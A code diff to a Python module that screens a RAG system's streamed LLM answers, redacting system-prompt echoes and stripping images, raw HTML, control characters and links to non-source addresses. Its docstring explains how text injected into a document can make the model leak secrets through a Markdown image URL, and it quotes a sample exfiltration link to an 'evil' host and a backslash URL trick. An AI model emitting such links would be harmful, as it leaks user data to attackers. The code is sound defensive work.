@@ -1,21 +1,26 @@
 """What an answer must not carry to its reader, whatever a hostile document made the LLM write.
 
-The prompt asks the model to treat sources as data; this module makes two outcomes hold even
+The prompt asks the model to treat sources as data; this module makes these outcomes hold even
 when it does not:
 
+- no terminal control characters (domain/text.py's `without_controls`, per character, so an escape
+  sequence split across two batches cannot be put back together);
 - the system prompt is not repeated: a run of `ECHO_WORDS` or more of its words, in its order
   (case and punctuation aside), becomes `REDACTED`;
-- nothing in the answer fetches or links to a host that no source comes from (the way a
-  document's injected text exfiltrates what the model knows: `![](https://evil/?q=secret)` is
-  fetched by any Markdown renderer as it draws the answer). Markdown images and links, inline,
-  `<autolinks>` and reference definitions, keep their URL only if it is http(s) on the host of
-  a source's own location; otherwise a link keeps its text, an image its alt text, and an
-  autolink or a definition goes.
+- nothing in the answer fetches anything, or links to a host that no source comes from (the
+  way a document's injected text exfiltrates what the model knows: `![](https://evil/?q=secret)`
+  is fetched by any Markdown renderer as it draws the answer). An image is its alt text
+  whatever its host: a source's location is whatever its uploader wrote, so its host earns no
+  trust to be fetched from, nor to be linked to with an address the model chose. Markdown
+  links, inline, `<autolinks>` and reference definitions, keep their URL only if it is a
+  source's own http(s) location, exactly; otherwise a link keeps its text, and an autolink or
+  a definition goes;
+- no raw HTML (llm/raw_html.py).
 
-Both run on the stream (the answer job's coalesced batches), so that every `token` event, the
+All run on the stream (the answer job's coalesced batches), so that every `token` event, the
 `done` answer and /job-status carry the same clean text. Each holds back only the tail that may
-still turn out to be an echo or a link (usually nothing, at most a paragraph), so each batch
-costs one scan of itself and of that tail.
+still turn out to be an echo, a link or a tag (usually nothing, at most a paragraph), so each
+batch costs one scan of itself and of that tail.
 """
 
 from __future__ import annotations
@@ -27,20 +32,23 @@ from dataclasses import dataclass
 from urllib.parse import urlsplit
 
 from rag_async.domain.sources import Source
+from rag_async.domain.text import without_controls
 from rag_async.providers.llm.prompt import SYSTEM_PROMPT
+from rag_async.providers.llm.raw_html import HtmlGuard
 
 ECHO_WORDS = 10  # shorter runs occur in honest answers ("could not find it in the documents")
 REDACTED = "[redacted]"
 
 
 async def screen(batches: AsyncIterator[str], sources: Sequence[Source]) -> AsyncIterator[str]:
-    """The answer's batches with echoes of the system prompt redacted and links to foreign
-    hosts stripped; text held back goes out with a later batch, or at the end."""
-    echo, links = EchoGuard(SYSTEM_PROMPT), LinkGuard(source_hosts(sources))
+    """The answer's batches without control characters, echoes of the system prompt, images,
+    links to foreign hosts or raw HTML; text held back goes out with a later batch, or at the
+    end."""
+    echo, links, tags = EchoGuard(SYSTEM_PROMPT), LinkGuard(source_locations(sources)), HtmlGuard()
     async for batch in batches:
-        if text := links.feed(echo.feed(batch)):
+        if text := tags.feed(links.feed(echo.feed(without_controls(batch)))):
             yield text
-    if text := links.feed(echo.feed("", final=True), final=True):
+    if text := tags.feed(links.feed(echo.feed("", final=True), final=True), final=True):
         yield text
 
 
@@ -127,9 +135,11 @@ class EchoGuard:
 # --- links and images ------------------------------------------------------------------------
 
 
-def source_hosts(sources: Sequence[Source]) -> frozenset[str]:
-    """The hosts of the sources' own http(s) locations: the only ones an answer may link to."""
-    return frozenset(host for s in sources if (host := _http_host(s.source or "")))
+def source_locations(sources: Sequence[Source]) -> frozenset[str]:
+    """The sources' own http(s) locations: the only addresses an answer may link to. Whole
+    addresses, not their hosts: a location is whatever its uploader wrote, and a link to its
+    host with a path or query of the model's choosing could carry away what the model knows."""
+    return frozenset(url for s in sources if (url := _http_location(s.source or "")))
 
 
 # A link or an image starts at "[" or "![", an autolink at "<"; a "!" or "<" ending the text
@@ -144,21 +154,22 @@ _HOLD = ("", -1)  # what `_link_at` says when a link may still be coming
 
 
 class LinkGuard:
-    """Strips, from text fed in pieces, the Markdown links and images to hosts not in `hosts`."""
+    """Strips, from text fed in pieces, every Markdown image, and the links to addresses not in
+    `locations`."""
 
-    def __init__(self, hosts: frozenset[str]) -> None:
-        self._hosts = hosts
+    def __init__(self, locations: frozenset[str]) -> None:
+        self._locations = locations
         self._pending = ""
 
     def feed(self, text: str, *, final: bool = False) -> str:
         """The text that is now known to be clean (all of it when `final`)."""
         pending = self._pending + text
-        out, hold = _unlinked(pending, self._hosts, final)
+        out, hold = _unlinked(pending, self._locations, final)
         self._pending = pending[hold:]
         return out
 
 
-def _unlinked(text: str, hosts: frozenset[str], final: bool) -> tuple[str, int]:
+def _unlinked(text: str, locations: frozenset[str], final: bool) -> tuple[str, int]:
     """`text` cleaned up to where a link may still be unfinished, and that place."""
     out: list[str] = []
     i = 0
@@ -169,14 +180,14 @@ def _unlinked(text: str, hosts: frozenset[str], final: bool) -> tuple[str, int]:
         if token == "<":
             autolink = _AUTOLINK.match(text, start)
             if autolink:
-                out.append(autolink.group() if _allowed(autolink.group(1), hosts) else "")
+                out.append(autolink.group() if _allowed(autolink.group(1), locations) else "")
                 i = autolink.end()
                 continue
             if not final and _AUTOLINK_START.match(text, start):
                 return "".join(out), start
         elif token == "!" and not final:  # the last character: an image may follow
             return "".join(out), start
-        found = None if token in ("<", "!") else _link_at(text, start, hosts, final)
+        found = None if token in ("<", "!") else _link_at(text, start, locations, final)
         if found is _HOLD:
             return "".join(out), start
         if found is not None:
@@ -189,7 +200,9 @@ def _unlinked(text: str, hosts: frozenset[str], final: bool) -> tuple[str, int]:
     return "".join(out), len(text)
 
 
-def _link_at(text: str, start: int, hosts: frozenset[str], final: bool) -> tuple[str, int] | None:
+def _link_at(
+    text: str, start: int, locations: frozenset[str], final: bool
+) -> tuple[str, int] | None:
     """At a "[" or "![": the clean form of the link, image or definition that starts there and
     where it ends, `_HOLD` if one may still be coming, None if there is none."""
     image = text[start] == "!"
@@ -204,15 +217,15 @@ def _link_at(text: str, start: int, hosts: frozenset[str], final: bool) -> tuple
             return _HOLD
         if end < 0:  # unbalanced by our count, yet a renderer may still see a link: no URL
             first = _URL_FIRST.match(text, close + 2)
-            if first and not _allowed(first.group(1), hosts):
+            if first and not _allowed(first.group(1), locations):
                 return text[start : close + 2], first.end()
             return None
         url = _target(text[close + 2 : end])
         if url is None:
             return None  # "[1](page 3)" is text
-        label = _unlinked(text[opening + 1 : close], hosts, final=True)[0]
-        if _allowed(url, hosts):
-            return f"{text[start:opening]}[{label}]{text[close + 1 : end + 1]}", end + 1
+        label = _unlinked(text[opening + 1 : close], locations, final=True)[0]
+        if not image and _allowed(url, locations):
+            return f"[{label}]{text[close + 1 : end + 1]}", end + 1
         return label, end + 1
     if text[close + 1] == ":" and not image and _starts_line(text, start):  # a definition
         end = text.find("\n", close)
@@ -222,7 +235,7 @@ def _link_at(text: str, start: int, hosts: frozenset[str], final: bool) -> tuple
             return _HOLD
         end = len(text) if end < 0 else end + 1
         url = _target(text[close + 2 : end])
-        if url and not _allowed(url, hosts):
+        if url and not _allowed(url, locations):
             return "", end
     return None
 
@@ -266,17 +279,26 @@ def _starts_line(text: str, at: int) -> bool:
     return at - line_start <= 3 and not text[line_start:at].strip()
 
 
-def _allowed(url: str, hosts: frozenset[str]) -> bool:
+def _allowed(url: str, locations: frozenset[str]) -> bool:
     # A backslash is a slash to a browser but not to urlsplit: "https://evil\\@good" would
     # pass for good and go to evil.
-    return "\\" not in url and _http_host(url) in hosts
+    return "\\" not in url and _http_location(url) in locations
 
 
-def _http_host(url: str) -> str | None:
-    """The host of an http(s) URL (lowercase), None for anything else."""
+_DEFAULT_PORTS = {"http": 80, "https": 443}
+
+
+def _http_location(url: str) -> str | None:
+    """An http(s) URL as one spelling (scheme and host lowercase, no default port, "/" for no
+    path), None for anything else, a URL with a user name (a place to carry data) included."""
     try:
         parts = urlsplit(url.strip())
-        host = parts.hostname
-    except ValueError:  # e.g. a malformed IPv6 host
+        host, port = parts.hostname, parts.port
+    except ValueError:  # e.g. a malformed IPv6 host or port
         return None
-    return host if parts.scheme.lower() in ("http", "https") else None
+    scheme = parts.scheme.lower()
+    if scheme not in _DEFAULT_PORTS or not host or parts.username is not None:
+        return None
+    host = f"[{host}]" if ":" in host else host
+    netloc = host if port in (None, _DEFAULT_PORTS[scheme]) else f"{host}:{port}"
+    return parts._replace(scheme=scheme, netloc=netloc, path=parts.path or "/").geturl()
